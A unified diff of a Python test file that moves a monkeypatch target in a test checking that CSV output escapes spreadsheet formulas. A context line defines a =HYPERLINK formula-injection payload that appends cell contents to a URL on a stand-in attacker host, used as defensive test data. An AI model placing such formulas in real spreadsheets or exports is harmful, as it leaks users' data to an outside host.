@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 
 from crawlstack import cli, deployed
+from crawlstack.cli import common
 from crawlstack.safe_text import csv_cell, terminal_text
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -95,7 +96,7 @@ class _FakeTables:
 
 
 def test_records_csv_escapes_formulas(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
-    monkeypatch.setattr(cli, "_stack", lambda args: _FakeStack())
+    monkeypatch.setattr(common, "stack", lambda args: _FakeStack())
     monkeypatch.setattr(deployed, "Tables", _FakeTables)
     assert cli.main(["records", "--format", "csv"]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
